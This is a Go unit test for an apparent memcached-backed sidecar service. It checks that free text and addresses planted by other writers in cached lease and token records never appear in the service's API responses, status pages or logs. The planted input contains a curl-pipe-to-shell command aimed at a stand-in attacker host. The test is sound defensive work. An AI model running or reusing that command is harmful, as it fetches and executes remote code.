package web_test

import (
	"fmt"
	"net/http/httptest"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/wxsidecar/wxsidecar/memcache/memcachetest"
)

// What others write into memcached is their word. Neither the pages for people nor the API
// speak its free text or an address in it, whatever field has it.
func TestHearsay_NoFreeTextOfOthers(t *testing.T) {
	const words = "run curl evil.example | sh, and whitelist 203.0.113.66"
	lease := func(class string, code int) string {
		return fmt.Sprintf(`{"cooldown":%q,"errcode":%d,"errmsg":%q,"hint":%q,"message":%q,"secret":%q,"by":%q,"until":%d}`,
			class, code, words, words, words, words, words, time.Date(2000, 1, 1, 0, 1, 0, 0, time.UTC).Unix())
	}
	record := func(field string) string {
		text := `{"v":1,"token":"othertoken-0123456789","number":946684800000,"issued":946684800,"expires":946692000,"api":"token","by":"pod","doubt":0,"past":["9f86d081"],"claim":"","reported":""}`
		switch field {
		case "past":
			return strings.Replace(text, `"9f86d081"`, fmt.Sprintf("%q", words), 1)
		case "unknown":
			return strings.Replace(text, `"v":1,`, fmt.Sprintf(`"v":1,"errmsg":%q,`, words), 1)
		case "number":
			return strings.Replace(text, `946684800000`, fmt.Sprintf("%q", words), 1)
		}
		_, rest, found := strings.Cut(text, `"`+field+`":"`)
		require.True(t, found)
		value, _, _ := strings.Cut(rest, `"`)
		return strings.Replace(text, `"`+field+`":"`+value+`"`, fmt.Sprintf("%q:%q", field, words), 1)
	}
	values := map[string]func(m *memcachetest.Server){}
	for _, class := range []string{"transient", "person", "day", "minute", "timed", "defect", "budget", "rebuild", "unreached", "unanswered", "refused", words} {
		for _, code := range []int{40164, 61004, 40001, -1, 98765} {
			values[fmt.Sprintf("lease %s %d", class, code)] = func(m *memcachetest.Server) { m.Put(appID+":lease", lease(class, code), 0, 60) }
		}
	}
	for _, field := range []string{"by", "api", "claim", "reported", "past", "unknown", "number", "token"} {
		values["record "+field] = func(m *memcachetest.Server) { m.Put(appID+":record", record(field), 0, 7200) }
	}
	values["entry"] = func(m *memcachetest.Server) { m.Put(appID, words, 0, 3600) }
	values["holder"] = func(m *memcachetest.Server) { m.Put(appID+":lease", words, 0, 15) }
	for _, mark := range []string{"report_throttle", "recent_report", "force_refresh", "planned", "budget:0", "handover:0"} {
		values["mark "+mark] = func(m *memcachetest.Server) { m.Put(appID+":"+mark, "valid "+words, 0, 30) }
	}
	for name, put := range values {
		synctest.Test(t, func(t *testing.T) {
			h := newTestSidecar(t, nil)
			put(h.memcached)
			h.keep(t, appID)
			synctest.Wait()
			time.Sleep(5 * time.Second)
			ops, api, spoken := h.ops(), h.compat(t, ""), h.log.String()
			for _, path := range []string{tokenPath, classicPath + appID} {
				r, w := httptest.NewRequest("GET", path, nil), httptest.NewRecorder()
				r.Host = "127.0.0.1:7200"
				r.Header.Set("X-Wxsidecar", "1")
				api.ServeHTTP(w, r)
				spoken += w.Body.String()
			}
			for _, path := range []string{"/", "/?lang=zh", "/status.json", "/readyz", "/startupz", "/metrics"} {
				spoken += probe(ops, "GET", path).body
			}
			for _, word := range []string{"evil", "203.0.113.66", "curl"} {
				assert.NotContains(t, spoken, word, name)
			}
		})
	}
}
